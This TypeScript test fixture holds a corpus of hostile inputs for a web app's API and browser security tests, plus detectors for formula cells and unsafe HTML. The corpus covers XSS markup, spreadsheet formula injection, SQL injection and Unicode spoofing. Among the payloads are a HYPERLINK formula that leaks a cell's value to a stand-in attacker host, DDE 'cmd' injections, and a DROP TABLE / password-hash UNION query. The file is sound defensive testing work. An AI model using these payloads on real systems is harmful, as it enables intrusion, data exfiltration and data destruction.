/**
 * Hostile input: what a careless or malicious user types into text, rich-text and file-name
 * fields. Shared by the API test (apps/server/test/hostile-input.test.ts) and the browser
 * journey (e2e/security/hostile-input.spec.ts).
 *
 * Every payload that could run script sets `window.__xss` (XSS_FLAG) when it runs, so a page
 * can be asked afterwards whether anything executed. Every payload also carries visible text,
 * so rich text that is cleaned is never empty (an empty comment is refused).
 */

/** The global a payload sets when its script runs. */
export const XSS_FLAG = '__xss';

export type THostileKind =
  /** markup that would run script if rendered as HTML */
  | 'markup'
  /** a cell a spreadsheet would run as a formula */
  | 'formula'
  /** SQL that would do harm if concatenated into a query */
  | 'sql'
  /** bidi overrides, zero-width and other control characters */
  | 'unicode'
  /** longer than most fields allow */
  | 'long';

export type THostilePayload = { id: string; kind: THostileKind; text: string };

const set = `window.${XSS_FLAG}=1`;

/** 20,000 characters without a space: the longest words a layout has to survive. */
export const LONG_TEXT = `LONG${'W'.repeat(19_992)}END!`;

export const HOSTILE_CORPUS: readonly THostilePayload[] = [
  { id: 'script', kind: 'markup', text: `<script>${set}</script>Script tag` },
  { id: 'img-onerror', kind: 'markup', text: `<img src=x onerror="${set};alert(1)">Image onerror` },
  { id: 'svg-onload', kind: 'markup', text: `<svg onload="${set}"><script>${set}</script><circle r="4"/></svg>SVG onload` },
  { id: 'js-link', kind: 'markup', text: `<p><a href="javascript:${set}">Javascript link</a></p>` },
  { id: 'js-link-obfuscated', kind: 'markup', text: `<a href=" JaVaScRiPt&#x3a;${set}">Encoded link</a> <a href="jav&#x09;ascript:${set}">Tab link</a>` },
  { id: 'nested-script', kind: 'markup', text: `<scr<script>ipt>${set}</scr</script>ipt>Nested tags` },
  { id: 'attribute-breakout', kind: 'markup', text: `"><img src=x onerror=${set}>'><svg/onload=${set}>Breakout` },
  { id: 'iframe-srcdoc', kind: 'markup', text: `<iframe srcdoc="<script>parent.${XSS_FLAG}=1</script>"></iframe>Iframe srcdoc` },
  { id: 'details-ontoggle', kind: 'markup', text: `<details open ontoggle="${set}"><summary>Details ontoggle</summary></details>` },
  { id: 'mention-handler', kind: 'markup', text: `<p><span data-type="mention" data-id="1" class="mention" onmouseover="${set}" style="position:fixed;inset:0">@Mention</span> spoof</p>` },
  { id: 'formula-hyperlink', kind: 'formula', text: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")' },
  { id: 'formula-plus', kind: 'formula', text: "+cmd|' /C calc'!A0" },
  { id: 'formula-minus', kind: 'formula', text: '-1+1' },
  { id: 'formula-at', kind: 'formula', text: '@SUM(1+1)*cmd|\' /C calc\'!A0' },
  { id: 'formula-tab', kind: 'formula', text: '\t=1+1 tab first' },
  { id: 'formula-cr', kind: 'formula', text: '\r=1+1 carriage return first' },
  { id: 'sql-drop', kind: 'sql', text: "'; DROP TABLE jobs; --" },
  { id: 'sql-union', kind: 'sql', text: "x' OR '1'='1' UNION SELECT password_hash FROM users --" },
  { id: 'unicode-controls', kind: 'unicode', text: 'Invoice \u202Egpj.exe\u202C \u200B\u200C\u200D\uFEFF zero-width \u0007bell \u001b[31mred\u001b[0m \u2066isolate\u2069' },
  { id: 'unicode-nul', kind: 'unicode', text: 'before\u0000after NUL' },
  { id: 'unicode-scripts', kind: 'unicode', text: 'مرحبا שלום 👩🏽‍💻 𝕏 ﷽ Z̴̡͓̈a̷͚̋l̶̰͝g̸̜̈o̷̲͐' },
  { id: 'long', kind: 'long', text: LONG_TEXT },
];

export function payload(id: string): THostilePayload {
  const found = HOSTILE_CORPUS.find((p) => p.id === id);
  if (!found) throw new Error(`No hostile payload ${id}`);
  return found;
}

/** A name of exactly `length` characters (a field's maximum) without a space, starting with a marker. */
export function maxLengthName(length: number, marker = 'MAXLEN'): string {
  return `${marker}${'M'.repeat(Math.max(0, length - marker.length))}`.slice(0, length);
}

/** True when a spreadsheet would run this cell as a formula (OWASP CSV injection). */
export function isFormulaCell(cell: string): boolean {
  return /^[=+\-@\t\r]/.test(cell);
}

const RICH_TAGS = new Set(['p', 'br', 'strong', 'b', 'em', 'i', 'u', 's', 'strike', 'a', 'ul', 'ol', 'li', 'blockquote', 'code', 'pre', 'h1', 'h2', 'h3', 'h4', 'span', 'hr']);

/**
 * Why this stored HTML is unsafe to render, or null when it is safe: only the editor's tags,
 * no event handler, no javascript:/data:/vbscript: URL, no script, frame, svg or image.
 * `tags` widens the allowed tags (e-mail templates allow layout tags and images).
 */
export function unsafeHtmlReason(html: string, tags: ReadonlySet<string> = RICH_TAGS): string | null {
  if (/<\s*\/?\s*(script|iframe|frame|object|embed|svg|math|details|form|base|meta|link|style)\b/i.test(html)) return 'a forbidden tag';
  for (const m of html.matchAll(/<\s*(\/?)\s*([a-zA-Z][\w:-]*)([^>]*)>/g)) {
    const [tag, , name, attrs] = m;
    if (!tags.has(name.toLowerCase())) return `tag <${name}> in ${tag.slice(0, 80)}`;
    if (/(^|[\s"'/])on[a-z]+\s*=/i.test(attrs)) return `an event handler in ${tag.slice(0, 80)}`;
    if (/(javascript|vbscript|data)\s*:/i.test(attrs.replace(/&#x?0*(9|a|d|10|13);?|[\t\n\r]/gi, ''))) return `a script URL in ${tag.slice(0, 80)}`;
    if (/\b(srcdoc|formaction|style)\s*=/i.test(attrs) && tags === RICH_TAGS) return `a dangerous attribute in ${tag.slice(0, 80)}`;
  }
  return null;
}

export const EMAIL_TAGS: ReadonlySet<string> = new Set([
  ...RICH_TAGS, 'img', 'div', 'table', 'thead', 'tbody', 'tfoot', 'tr', 'td', 'th', 'center', 'font', 'h5', 'h6', 'nav', 'section', 'article', 'aside',
  'header', 'footer', 'main', 'figure', 'figcaption', 'dl', 'dt', 'dd', 'abbr', 'cite', 'dfn', 'kbd', 'mark', 'q', 'samp', 'small', 'sub', 'sup',
  'time', 'var', 'wbr', 'caption', 'col', 'colgroup', 'address', 'bdi', 'bdo', 'data', 'rb', 'rp', 'rt', 'rtc', 'ruby', 'tt',
]);
